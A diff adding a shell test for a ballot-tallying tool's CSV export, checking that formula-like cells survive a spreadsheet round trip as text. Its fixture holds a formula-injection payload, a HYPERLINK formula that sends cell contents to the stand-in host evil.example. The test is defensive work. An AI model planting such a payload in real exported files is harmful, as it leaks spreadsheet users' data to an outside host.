@@ -44,4 +44,14 @@ for export in default semicolon; do
   grep -q "$([ $export = default ] && echo , || echo ';')" "$work/ballots-$export.csv"
   tally "$work/ballots-$export.csv" | cmp - "$work/week-tabs.txt"
 done
+
+# Names a spreadsheet would compute are published as text: opened in the spreadsheet, the CSV's
+# cells hold the names, not 2 and a live link.
+printf 'March 9 2025\n1\t=1+1\t1-0\t20\t-\n2\t=HYPERLINK("http://evil.example/?"&A1,"x")\t1-0\t10\t-\n' \
+  > "$work/formulas.txt"
+"$exe" --publish csv "$work/formulas.txt" --output "$work/formulas.csv"
+ssconvert -I Gnumeric_stf:stf_csvtab "$work/formulas.csv" "$work/formulas.gnumeric" 2>/dev/null
+ssconvert -T Gnumeric_stf:stf_csv "$work/formulas.gnumeric" "$work/formulas-back.csv" 2>/dev/null
+cut -d, -f2 "$work/formulas-back.csv" | sed -n 2p | grep -qx '=1+1'
+grep -q '=HYPERLINK(""http://evil.example/?""&A1' "$work/formulas-back.csv"
 echo "spreadsheet round trip passed"
